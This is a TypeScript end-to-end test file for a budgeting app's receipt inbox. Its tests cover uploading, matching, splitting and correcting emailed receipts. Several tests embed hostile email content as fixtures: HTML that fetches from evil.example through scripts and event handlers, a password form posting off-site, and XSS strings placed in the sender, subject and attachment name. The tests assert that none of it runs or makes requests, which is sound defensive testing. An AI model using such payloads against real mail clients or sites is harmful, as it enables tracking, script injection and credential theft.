// The inbox as a person uses it, and hostile messages: nothing of them runs, no other site is
// requested, and their content is text.

import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { takeScreenshot, reloadUntil, sample, tributaryForTests } from "./tributary.ts";

const tributary = tributaryForTests();

/** How often it is looked again, 50 ms apart, whether something has come to its end. */
const ROUNDS_MAX = 1_200;

interface Shown {
  readonly id: string;
  readonly state: string;
  readonly reason: string | null;
  readonly subject: string | null;
  readonly receipts: readonly {
    readonly state: string;
    readonly merchant: string | null;
    readonly total: string | null;
    readonly currency: string | null;
    readonly order_number: string | null;
    readonly account_id: number | null;
    readonly corrected: readonly string[];
  }[];
}

/** Brings a message and waits until it was read. */
async function uploadMessage(raw: string): Promise<string> {
  const response = await fetch(`${tributary.origin}/api/inbox`, {
    method: "POST",
    headers: {
      authorization: `Bearer ${(await tributary.person()).token}`,
      "content-type": "message/rfc822",
    },
    body: raw,
  });
  const { id } = (await response.json()) as Shown;
  await waitUntilRead(id);
  return id;
}

async function waitUntilRead(id: string): Promise<Shown> {
  for (let round = 0; round < ROUNDS_MAX; round += 1) {
    const message = await readMessage(id);
    if (message.state !== "received" && message.state !== "reading") return message;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error("the message is not read");
}

async function readMessage(id: string): Promise<Shown> {
  return (await (await tributary.call(`/api/inbox/${id}`)).json()) as Shown;
}

interface Mail {
  readonly from?: string;
  readonly subject: string;
  readonly text?: string;
  readonly html?: string;
  readonly attachment?: { readonly name: string; readonly type: string; readonly text: string };
}

let made = 0;

function mail({
  from = "Harbour Books <orders@harbour.example>",
  subject,
  text,
  html,
  attachment,
}: Mail): string {
  made += 1;
  const body =
    html === undefined
      ? `Content-Type: text/plain; charset=utf-8\r\n\r\n${text ?? ""}\r\n`
      : `Content-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`;
  const head = `From: ${from}\r\nTo: ada@mail.example\r\nSubject: ${subject}\r\nDate: Tue, 20 Oct 2026 14:32:08 +0000\r\nMessage-ID: <${made}@harbour.example>\r\nMIME-Version: 1.0\r\n`;
  if (attachment === undefined) return head + body;
  const { name, type, text: content } = attachment;
  return `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${body}--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${content}\r\n--b--\r\n`;
}

async function fits(page: Page): Promise<number> {
  return page.evaluate<number>("document.documentElement.scrollWidth - innerWidth");
}

const TEA = mail({
  from: "Tidewater Tea <orders@tidewater.example>",
  subject: "Your receipt for order TW-20999",
  html: "<p>Thank you for your order!</p><p>Order number: <b>TW-20999</b><br>Date: October 20, 2026</p><table><tr><td>1 × The Tide Tables</td><td>USD 38.35</td></tr><tr><td>Subtotal</td><td>USD 38.35</td></tr><tr><td>Tax</td><td>USD 2.42</td></tr><tr><td><b>Total</b></td><td><b>USD 40.77</b></td></tr></table><p>Charged to Visa ending in 4417.</p>",
});

test("an empty inbox explains how to begin, and a message uploaded as a file is read and shown", async () => {
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto("/inbox");
  await page.getByText("No receipts yet").waitFor();
  await takeScreenshot(page, "70-inbox-empty");
  await page.getByText("Upload a message").click();
  await page.getByLabel("Saved message").setInputFiles(sample("receipt.eml"));
  await page.getByRole("button", { name: "Upload", exact: true }).click();
  await page.waitForURL("**/inbox/*");
  await page.getByRole("heading", { name: "Details" }).waitFor();
  await takeScreenshot(page, "71-inbox-message");

  const charge = await page.getByRole("region", { name: "Details" }).textContent();
  expect(charge).toContain("\u221240.77");
  expect(charge).toContain("TW-20461");
  expect(charge).toContain("20 Oct 2026");
  expect(complaints).toEqual([]);
});

for (const [name, options] of [
  ["desktop", {}],
  ["phone", { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }],
  ["dark", { colorScheme: "dark" }],
  ["plain", { javaScriptEnabled: false }],
] as const) {
  test(`each value links to its position in the message (${name})`, async () => {
    const id = await uploadMessage(TEA);
    const { page, complaints } = await tributary.visitSignedIn(options);

    await page.goto(`/inbox/${id}`);
    await page
      .getByRole("region", { name: "Details" })
      .getByRole("link", { name: /40\.77/ })
      .click();
    const mark = page.locator("mark:target");
    expect(await mark.textContent()).toContain("40.77");
    expect(await page.frameLocator("iframe").locator("body").textContent()).toContain(
      "The Tide Tables",
    );
    await takeScreenshot(page, `72-inbox-marks-${name}`);
    const wide = await fits(page);
    await page.goto("/inbox");
    await takeScreenshot(page, `73-inbox-list-${name}`);
    await page.goto("/inbox/unmatched");
    await page
      .getByRole("link", { name: /Tidewater/ })
      .first()
      .waitFor();

    expect(wide).toBeLessThanOrEqual(0);
    expect(await fits(page)).toBeLessThanOrEqual(0);
    expect(complaints).toEqual([]);
  });
}

for (const javaScriptEnabled of [true, false]) {
  test(`uncertain values are corrected in the form, ${javaScriptEnabled ? "with" : "without"} scripts`, async () => {
    const id = await uploadMessage(
      mail({
        from: `Corner <orders@corner${javaScriptEnabled ? "" : "2"}.example>`,
        subject: "Your receipt",
        text: `Thank you for your purchase.\r\n\r\nOrder number: C-${javaScriptEnabled ? 1 : 2}77310\r\nTotal: kr 18.20\r\nPaid by card ending in 4417.`,
      }),
    );
    const before = await readMessage(id);
    const { page, complaints } = await tributary.visitSignedIn({ javaScriptEnabled });

    await page.goto(`/inbox/${id}`);
    await takeScreenshot(page, javaScriptEnabled ? "74-inbox-asks" : "75-inbox-asks-plain");
    const form = page.locator("form.correct");
    const offered = await page.getByRole("button", { name: /^Use [A-Z]{3}$/ }).count();
    await page.getByText("Correct it or insert it now").click();
    await form.getByLabel("Currency").fill("XQQ");
    await form.getByLabel("Account").selectOption({ index: 1 });
    await form.getByRole("button", { name: "Save and wait for the bank transaction" }).click();
    await page.getByRole("alert").waitFor();
    const refused = await page.getByRole("alert").textContent();
    const typed = await form.getByLabel("Currency").inputValue();
    await takeScreenshot(page, javaScriptEnabled ? "76-inbox-refused" : "77-inbox-refused-plain");
    await form.getByLabel("Currency").fill("sek");
    await form.getByRole("button", { name: "Save and wait for the bank transaction" }).click();
    await page.getByText("Waiting for the bank transaction.").waitFor();

    expect(before).toMatchObject({ state: "review", reason: "ambiguous_currency" });
    expect(offered).toBeGreaterThan(2);
    expect(refused).toContain("The currency must be an ISO 4217 code");
    expect(typed).toBe("XQQ");
    const after = await readMessage(id);
    expect(after.receipts).toMatchObject([
      { state: "waiting", total: "18.20", currency: "sek", corrected: ["currency", "account_id"] },
    ]);
    // The first refusal of a form is an answer of its own, which browsers report on their console.
    expect(complaints.filter((line) => !line.includes("status of 400"))).toEqual([]);
  });
}

test("a receipt is ignored, restored, read again and deleted", async () => {
  const id = await uploadMessage(
    mail({
      subject: "Your receipt",
      text: "Receipt\r\n\r\nOrder number: H-20871\r\nTotal: EUR 21.00",
    }),
  );
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto(`/inbox/${id}`);
  await page.getByRole("button", { name: "Ignore" }).click();
  await page.getByText("Ignored: this is not for the budget.").waitFor();
  await page.getByText("This is a payment").click();
  await page.getByRole("button", { name: "Save and wait for the bank transaction" }).click();
  await page.getByText("Waiting for the bank transaction.").waitFor();
  await page.getByRole("button", { name: "Read again" }).click();
  await page.getByText("Waiting for the bank transaction.").waitFor();
  await page.getByText("Delete…").click();
  await page.getByRole("button", { name: "Delete message" }).click();
  await page.waitForURL("**/inbox");

  expect((await tributary.call(`/api/inbox/${id}`)).status).toBe(404);
  expect(complaints).toEqual([]);
});

test("an attachment is saved, and a correction is shown and forgotten", async () => {
  const raw = mail({
    from: "Heron <orders@heron.example>",
    subject: "Your receipt",
    text: "Receipt\r\n\r\nOrder number: HN-20901\r\nTotal: EUR 24.00",
    attachment: {
      name: "terms.html",
      type: "text/html",
      text: "<script>document.title='taken'</script>",
    },
  });
  const id = await uploadMessage(raw);
  await tributary.call(`/api/inbox/${id}/import`, "POST", { merchant: "The Heron", mode: "wait" });
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto(`/inbox/${id}`);
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "terms.html" }).click(),
  ]);
  const remembered = page.getByRole("region", { name: "Remembered corrections" });
  await remembered.waitFor();
  await takeScreenshot(page, "88-inbox-remembered");
  await remembered.getByRole("button", { name: "Forget the merchant of heron.example" }).click();
  await page.waitForURL(`**/inbox/${id}`);
  await remembered.waitFor({ state: "detached" });
  const answer = await page.request.get(`/api/inbox/${id}/attachments/0`);

  expect(download.suggestedFilename()).toBe("terms.html");
  expect(answer.headers()["content-type"]).toBe("application/octet-stream");
  expect(answer.headers()["content-security-policy"]).toMatch(/sandbox$/);
  expect(complaints).toEqual([]);
});

test("several receipts of one message are shown separately, each next to its own text", async () => {
  const inner = (subject: string, number: string, total: string) =>
    `--b\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\nFrom: Harbour Books <orders@harbour.example>\r\nTo: ada@mail.example\r\nSubject: ${subject}\r\nDate: Tue, 20 Oct 2026 14:32:08 +0000\r\nMessage-ID: <${number}@harbour.example>\r\nContent-Type: text/plain\r\n\r\nReceipt\r\n\r\nOrder number: ${number}\r\nTotal: ${total}\r\n\r\n`;
  const raw = `From: Ada <ada@mail.example>\r\nTo: receipts@tributary.localhost\r\nSubject: Two receipts\r\nDate: Tue, 20 Oct 2026 15:00:00 +0000\r\nMessage-ID: <two@mail.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHere they are.\r\n${inner("First receipt", "HB-70011", "EUR 11.00")}${inner("Second receipt", "HB-70012", "EUR 22.00")}--b--\r\n`;
  const id = await uploadMessage(raw);
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto(`/inbox/${id}`);
  await takeScreenshot(page, "78-inbox-several");
  const first = await page.getByRole("region", { name: /^Charge 1/ }).textContent();
  const second = await page.getByRole("region", { name: /^Charge 2/ }).textContent();
  await page
    .getByRole("region", { name: /^Charge 2/ })
    .getByRole("button", { name: "Ignore" })
    .click();
  await page.waitForURL(`**/inbox/${id}`);

  expect(first).toContain("11.00 EUR");
  expect(second).toContain("22.00 EUR");
  expect((await readMessage(id)).receipts.map(({ state }) => state)).toEqual([
    "waiting",
    "ignored",
  ]);
  expect(complaints).toEqual([]);
});

test("a forwarding confirmation shows its code and its link, which only a person follows", async () => {
  const link = "https://mail-settings.google.com/mail/vf-%5BANGjdJ_planted%5D-token";
  const raw = mail({
    from: "Gmail Team <forwarding-noreply@google.com>",
    subject: "(#482913075) Gmail Forwarding Confirmation - Receive Mail from ada@gmail.example",
    text: `ada@gmail.example has requested to automatically forward mail to your email address.\r\nConfirmation code: 482913075\r\n\r\nTo allow it, please click the link below to confirm the request:\r\n\r\n${link}\r\n`,
  });
  const id = await uploadMessage(raw);
  const { page, context, complaints } = await tributary.visitSignedIn();
  const asked: string[] = [];
  context.on("request", (request) => asked.push(request.url()));

  await page.goto(`/inbox/${id}`);
  const section = page.getByRole("region", { name: "Confirm mail forwarding" });
  await section.waitFor();
  await takeScreenshot(page, "79-inbox-confirmation");

  expect(await section.locator("code").allTextContents()).toEqual(["482913075", link]);
  expect(
    await page.evaluate<string[]>(
      "[...document.querySelectorAll('main a')].map(({ href }) => href).filter((href) => !href.startsWith(location.origin))",
    ),
  ).toEqual([link]);
  const button = section.getByRole("link", { name: "Confirm at mail-settings.google.com" });
  expect(await button.getAttribute("target")).toBe("_blank");
  expect(await button.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(asked.filter((url) => !url.startsWith(tributary.origin))).toEqual([]);
  expect((await readMessage(id)).reason).toBe("forwarding_confirmation");
  expect(complaints).toEqual([]);
});

const EVIL = "https://evil.example";
const HOSTILE = `<!doctype html><html><head>
<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="${EVIL}"><link rel="preconnect" href="${EVIL}"><link rel="stylesheet" href="${EVIL}/sheet.css">
<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/style.png) } @font-face { font-family: x; src: url(${EVIL}/font.woff) } p { font-family: x }</style>
<script>parent.document.title = "taken"; fetch("${EVIL}/script")</script></head>
<body background="${EVIL}/body.png" onload="fetch('${EVIL}/onload')">
<p style="background-image: url(${EVIL}/css.png)">Receipt</p><p style="background:u\\72l(${EVIL}/escaped.png)">Order number: E-4455</p>
<img src="${EVIL}/pixel.png" srcset="${EVIL}/2x.png 2x" onerror="fetch('${EVIL}/onerror')"><picture><source srcset="${EVIL}/source.png"><img alt="logo"></picture>
<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png">Total: EUR 9.99</td></tr></table>
<a href="javascript:fetch('${EVIL}/href')" ping="${EVIL}/ping" id="lure">Pay now</a><a href="${EVIL}/away" target="_top">away</a>
<form action="${EVIL}/form" method="post"><input name="password" autofocus><button id="send">Sign in</button></form>
<svg onload="fetch('${EVIL}/svg')"><image href="${EVIL}/svg.png"/><use href="${EVIL}/use.svg#x"/><a href="${EVIL}/svg-a"><text>x</text></a><foreignObject><img src="${EVIL}/foreign.png"></foreignObject></svg>
<math><mtext><img src="${EVIL}/math.png"></mtext></math>
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<img src=${EVIL}/srcdoc.png>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><applet code="${EVIL}/applet"></applet>
<video src="${EVIL}/video" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/audio" autoplay></audio>
<template><img src="${EVIL}/template.png"></template><noscript><img src="${EVIL}/noscript.png"></noscript>
<div style="position:fixed;inset:0;z-index:9999">Cover</div><input type="image" src="${EVIL}/input.png"><link rel="icon" href="${EVIL}/icon.png">
<xmp><img src="${EVIL}/xmp.png"></xmp><textarea><img src="${EVIL}/textarea.png"></textarea><title><img src="${EVIL}/title.png"></title>
</body></html>`;

for (const javaScriptEnabled of [true, false]) {
  test(`a hostile message causes no requests and runs nothing, ${javaScriptEnabled ? "with" : "without"} scripts`, async () => {
    const attack =
      "\"><img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>";
    const raw = mail({
      from: `"<img src=x onerror=document.title='taken'>" <orders@evil${javaScriptEnabled ? "" : "2"}.example>`,
      subject: `Receipt ${attack}`,
      html: HOSTILE,
      attachment: {
        name: "<svg onload=document.title='taken'>.html",
        type: "text/html",
        text: `<script src="${EVIL}/attached.js"></script>`,
      },
    });
    const id = await uploadMessage(raw);
    const { page, context, complaints } = await tributary.visitSignedIn({ javaScriptEnabled });
    const asked: string[] = [];
    context.on("request", (request) => asked.push(request.url()));

    await page.goto(`/inbox/${id}`);
    const frame = page.frameLocator("iframe");
    await frame.getByText("Order number: E-4455").waitFor();
    await frame.getByText("Pay now").click();
    await page.waitForTimeout(500);
    await takeScreenshot(page, javaScriptEnabled ? "80-inbox-hostile" : "81-inbox-hostile-plain");
    await page.goto("/inbox");
    const listed = await page.locator("table.inbox").textContent();
    await page.goto("/inbox/unmatched");

    expect(asked.filter((url) => !url.startsWith(`${tributary.origin}/`))).toEqual([]);
    expect(listed).toContain("<script>document.title='taken'</script>");
    expect(await page.title()).toBe("Unmatched receipts · Tributary");
    expect(context.pages()).toHaveLength(1);
    expect(complaints).toEqual([]);
  });
}

test("the frame of a message has no scripts, no forms, no origin and its own policy, wherever it is opened", async () => {
  const id = await uploadMessage(mail({ subject: "Receipt once more", html: HOSTILE }));
  const { page, context, complaints } = await tributary.visitSignedIn();
  const asked: string[] = [];
  context.on("request", (request) => asked.push(request.url()));

  const answer = await page.goto(`/api/inbox/${id}/html`);
  const headers = answer?.headers() ?? {};

  expect(headers["content-security-policy"]).toContain("default-src 'none'");
  expect(headers["content-security-policy"]).toMatch(/sandbox(;|$)/);
  expect(
    await page
      .locator("script, form, img, iframe, object, embed, svg, link, base, a, input, video")
      .count(),
  ).toBe(0);
  expect(asked.filter((url) => !url.startsWith(`${tributary.origin}/`))).toEqual([]);
  expect(complaints).toEqual([]);
  await page.goto(`/inbox/${id}`);
  expect(await page.locator("iframe").first().getAttribute("sandbox")).toBe("");
});

test("the handling of receipts is chosen per address, and the page explains how to forward them", async () => {
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto("/connections#addresses");
  await page.getByLabel("Who will use this address").fill("the bookshop");
  await page.getByRole("button", { name: "Create address" }).click();
  await page.getByLabel("Receipts from the bookshop").click();
  await page.getByLabel("If a receipt arrives before its bank transaction").selectOption("insert");
  await page.locator("form[action$='/options']").getByLabel("Account").selectOption({ index: 1 });
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByText(/^insert right away, into /).waitFor();
  for (const name of ["Gmail", "Try it on this computer"])
    await page.locator(".programs summary").getByText(name, { exact: true }).click();
  await takeScreenshot(page, "82-addresses");
  const wide = await fits(page);
  await page.setViewportSize({ width: 390, height: 844 });
  await takeScreenshot(page, "83-addresses-phone");

  const addresses = (await (await tributary.call("/api/addresses")).json()) as {
    addresses: { address: string; mode: string; account_id: number | null }[];
  };
  expect(addresses.addresses).toMatchObject([{ mode: "insert", account_id: expect.any(Number) }]);
  expect(await page.locator(".programs").textContent()).toContain(
    encodeURIComponent(addresses.addresses[0]?.address ?? "none"),
  );
  expect(wide).toBeLessThanOrEqual(0);
  expect(await fits(page)).toBeLessThanOrEqual(0);
  expect(complaints).toEqual([]);
});

test("the navigation counts the decisions that wait for a person, on every page", async () => {
  await uploadMessage(
    mail({
      from: "Fjord <post@fjord.example>",
      subject: "Receipt",
      text: "Receipt\r\nTotal: 120 kr\r\nOrder number: F-88112",
    }),
  );
  const { page, complaints } = await tributary.visitSignedIn();
  const counts = (await (await tributary.call("/api/inbox/counts")).json()) as { review: number };

  await page.goto("/imports");

  expect(counts.review).toBeGreaterThan(0);
  expect(
    await page
      .getByRole("navigation", { name: "Pages" })
      .getByRole("link", { name: /Inbox/ })
      .textContent(),
  ).toBe(`Inbox ${counts.review} need review`);
  await page.goto("/inbox?state=review");
  expect(await page.locator("table.inbox tbody tr").count()).toBe(counts.review);
  expect(complaints).toEqual([]);
});

/** Imports a statement and waits until it rests. */
async function imported(account: string, csv: string): Promise<string> {
  const response = await fetch(`${tributary.origin}/api/imports?account=${account}`, {
    method: "POST",
    headers: { authorization: `Bearer ${(await tributary.person()).token}` },
    body: csv,
  });
  const { id } = (await response.json()) as { id: string };
  for (let round = 0; round < ROUNDS_MAX; round += 1) {
    const { state } = (await (await tributary.call(`/api/imports/${id}`)).json()) as {
      state: string;
    };
    if (state === "done") return id;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error("the import is not done");
}

async function until(id: string, state: string): Promise<Shown> {
  for (let round = 0; round < ROUNDS_MAX; round += 1) {
    const message = await readMessage(id);
    if (message.state === state) return message;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`the message is ${(await readMessage(id)).state}, not ${state}`);
}

test("a receipt is matched with an imported row, shown with it on both pages, and detached again", async () => {
  const id = await uploadMessage(
    mail({
      from: "Juniper Garden <orders@juniper.example>",
      subject: "Your receipt from Juniper Garden",
      text: "Receipt\r\n\r\nOrder number: JG-55012\r\nDate: 2026-10-20\r\nTotal: USD 61.35",
    }),
  );
  const run = await imported(
    "Checking",
    "Date,Description,Amount\n2026-10-19,Salary,2000.00\n2026-10-21,JUNIPER GARDEN 0441,-61.35\n2026-10-22,Rent,-900.00\n",
  );
  await until(id, "matched");
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto(`/inbox/${id}`);
  const met = await page.getByRole("region", { name: /^Details/ }).textContent();
  const evidence = await page.getByRole("list", { name: "Evidence" }).textContent();
  await takeScreenshot(page, "84-inbox-matched");
  await page.goto(`/imports/${run}`);
  await page
    .getByRole("region", { name: "Receipts for these transactions" })
    .getByRole("link", { name: "Juniper Garden" })
    .click();
  await page.waitForURL(`**/inbox/${id}#*`);
  await page.getByRole("button", { name: "Undo the match" }).click();
  await page.waitForURL(`**/inbox/${id}`);
  await until(id, "review");
  await page.reload();
  await takeScreenshot(page, "85-inbox-taken-back");

  expect(met).toMatch(/Transaction: .*61\.35 USD/);
  expect(evidence?.length).toBeGreaterThan(10);
  expect((await readMessage(id)).receipts[0]?.state).not.toBe("matched");
  expect(complaints).toEqual([]);
});

for (const javaScriptEnabled of [true, false]) {
  test(`a person chooses among several possible transactions, ${javaScriptEnabled ? "with" : "without"} scripts`, async () => {
    const [name, amount, number] = javaScriptEnabled
      ? ["Larkspur Cafe", "23.10", "LC-70441"]
      : ["Meadow Bakery", "24.20", "MB-70442"];
    await imported(
      "Checking",
      `Date,Description,Amount\n2026-10-19,Salary,2000.00\n2026-10-20,${name.toUpperCase()},-${amount}\n2026-10-20,${name.toUpperCase()},-${amount}\n2026-10-22,Rent,-900.00\n`,
    );
    const id = await uploadMessage(
      mail({
        from: `${name} <orders@${number.toLowerCase()}.example>`,
        subject: `Your receipt from ${name}`,
        text: `Receipt\r\n\r\nOrder number: ${number}\r\nDate: 2026-10-20\r\nTotal: USD ${amount}`,
      }),
    );
    await until(id, "review");
    const { page, complaints } = await tributary.visitSignedIn({ javaScriptEnabled });

    await page.goto(`/inbox/${id}`);
    const candidates = page.getByRole("region", { name: "Possible transactions" });
    const texts = await candidates.getByRole("listitem").allTextContents();
    await takeScreenshot(
      page,
      javaScriptEnabled ? "86-inbox-candidates" : "87-inbox-candidates-plain",
    );
    const accepting = await page.getByRole("button", { name: "Accept", exact: true }).count();
    await candidates.getByRole("button", { name: "Match this one" }).first().click();
    await page.waitForURL(`**/inbox/${id}`);
    await until(id, "matched");
    await page.reload();
    await page.getByText("Matched with a transaction in the budget.").waitFor();

    expect(texts).toHaveLength(2);
    // Accepting it would not say which.
    expect(accepting).toBe(0);
    expect(texts[0]).toContain(`${amount} USD`);
    expect(complaints).toEqual([]);
  });
}

test("a receipt of a purchase that no bank knows yet is inserted at once, and removed again", async () => {
  const id = await uploadMessage(
    mail({
      from: "Quarry Tools <orders@quarry.example>",
      subject: "Your receipt from Quarry Tools",
      text: "Receipt\r\n\r\nOrder number: QT-88031\r\nDate: 2026-10-20\r\nTotal: USD 77.05",
    }),
  );
  const { page, complaints } = await tributary.visitSignedIn();
  const there = async (): Promise<number> => {
    const answer: { transactions: { amount: string }[] } = JSON.parse(
      await (
        await tributary.call("/v2/transactions?start_date=2026-10-20&end_date=2026-10-20")
      ).text(),
    );
    return answer.transactions.filter(({ amount }) => Number(amount) === 77.05).length;
  };

  await page.goto(`/inbox/${id}`);
  await page.getByText("Correct it or insert it now").click();
  await page
    .locator("form.correct")
    .getByLabel("Account")
    .selectOption({ label: "Checking (USD)" });
  await page.getByRole("button", { name: "Save and insert now" }).click();
  await page.waitForURL(`**/inbox/${id}`);
  await until(id, "inserted");
  const inserted = await there();
  await page.reload();
  await page.getByRole("button", { name: "Undo and remove from the budget" }).click();
  await page.waitForURL(`**/inbox/${id}`);
  // Rarely enough for the service's quota.
  await expect.poll(there, { timeout: 60_000, interval: 1_000 }).toBe(0);

  expect(inserted).toBe(1);
  expect((await readMessage(id)).receipts[0]?.state).not.toBe("inserted");
  expect(complaints).toEqual([]);
});

test("a matched receipt’s transaction is split by its items, and merged again", async () => {
  await imported(
    "Checking",
    "Date,Description,Amount\n2026-10-19,Salary,2000.00\n2026-10-20,ROWAN TEA HOUSE,-33.45\n2026-10-22,Rent,-900.00\n",
  );
  const rows =
    "<tr><td>1 × Oolong, loose</td><td>USD 12.00</td></tr><tr><td>1 × Iron teapot</td><td>USD 21.45</td></tr>";
  const html = `<p>Thank you for your order!</p><p>Order number: <b>RT-31007</b><br>Date: October 20, 2026</p><table>${rows}<tr><td><b>Total</b></td><td><b>USD 33.45</b></td></tr></table>`;
  const id = await uploadMessage(
    mail({
      from: "Rowan Tea House <orders@rowan.example>",
      subject: "Your receipt for order RT-31007",
      html,
    }),
  );
  await until(id, "matched");
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto(`/inbox/${id}`);
  await page.getByText("Split by item").click();
  const parts = await page.locator("details.parts li").allTextContents();
  await page.getByRole("button", { name: "Split into 2 parts" }).click();
  await reloadUntil(page, page.getByText("Split into 2 parts by item"));
  await takeScreenshot(page, "89-inbox-split");
  await page.getByRole("button", { name: "Undo the split" }).click();
  await reloadUntil(page, page.getByText("Split by item"));

  expect(parts).toEqual([
    expect.stringMatching(/^Oolong, loose: \u221212\.00/),
    expect.stringMatching(/^Iron teapot: \u221221\.45/),
  ]);
  expect(complaints).toEqual([]);
});

test("a button matches several transactions with one receipt, and another books a cash payment", async () => {
  const { manual_accounts: accounts }: { manual_accounts: { id: number; name: string }[] } =
    JSON.parse(await (await tributary.call("/v2/manual_accounts")).text());
  const checking = accounts.find(({ name }) => name === "Checking")?.id;
  const typed = [
    ["2026-10-21", "30"],
    ["2026-10-24", "22.30"],
  ].map(([date, amount]) => ({
    date,
    amount,
    currency: "usd",
    payee: "WILLOW BOOKS",
    manual_account_id: checking,
  }));
  expect((await tributary.call("/v2/transactions", "POST", { transactions: typed })).status).toBe(
    201,
  );
  const receipt = (shop: string, number: string, total: string, payment: string) => ({
    from: `${shop} <orders@${number.toLowerCase()}.example>`,
    subject: `Your receipt from ${shop}`,
    text: `Thank you for your purchase at ${shop}!\r\n\r\nOrder number: ${number}\r\nDate: October 20, 2026\r\n\r\nTotal: USD ${total}\r\n${payment}`,
  });
  const both = await uploadMessage(mail(receipt("Willow Books", "WB-60021", "52.30", "")));
  const cash = await uploadMessage(
    mail(receipt("Quay Bakery", "QB-10010", "12.40", "Payment method: Cash")),
  );
  await Promise.all([until(both, "review"), until(cash, "review")]);
  const { page, complaints } = await tributary.visitSignedIn();

  await page.goto(`/inbox/${both}`);
  await takeScreenshot(page, "90-inbox-these");
  await page.getByRole("button", { name: "Match these" }).click();
  await until(both, "matched");
  await page.goto(`/inbox/${cash}`);
  await takeScreenshot(page, "91-inbox-cash");
  await page.getByRole("button", { name: "Paid in cash: insert into Cash" }).click();
  const inserted = await until(cash, "inserted");

  expect(inserted.receipts).toMatchObject([
    {
      state: "inserted",
      total: "12.40",
      account_id: accounts.find(({ name }) => name === "Cash")?.id,
    },
  ]);
  expect(complaints).toEqual([]);
});

test("a receipt with two totals has a button for each, and the one that is chosen is its total", async () => {
  const id = await uploadMessage(
    mail({
      from: "Willow Tools <orders@willowtools.example>",
      subject: "Your receipt from Willow Tools",
      text: "Thank you for your purchase at Willow Tools!\r\n\r\nOrder number: WT-70011\r\nDate: October 20, 2026\r\n\r\nOrder total: USD 61.20\r\n\r\nOrder total: USD 66.10",
    }),
  );
  await until(id, "review");
  const { page, complaints } = await tributary.visitSignedIn({
    viewport: { width: 390, height: 844 },
  });

  await page.goto(`/inbox/${id}`);
  await takeScreenshot(page, "92-inbox-totals");
  const wide = await fits(page);
  const [shown] = (await readMessage(id)).receipts;
  const [total, other] = shown?.total === "61.20" ? ["61.20", "66.10"] : ["66.10", "61.20"];
  await page.getByRole("button", { name: `Accept: ${total} USD` }).waitFor();
  await page.getByRole("button", { name: `Accept ${other} USD instead` }).click();
  const waiting = await until(id, "waiting");

  expect(wide).toBeLessThanOrEqual(0);
  expect(waiting.receipts).toMatchObject([{ total: other, corrected: ["total"] }]);
  expect(complaints).toEqual([]);
});
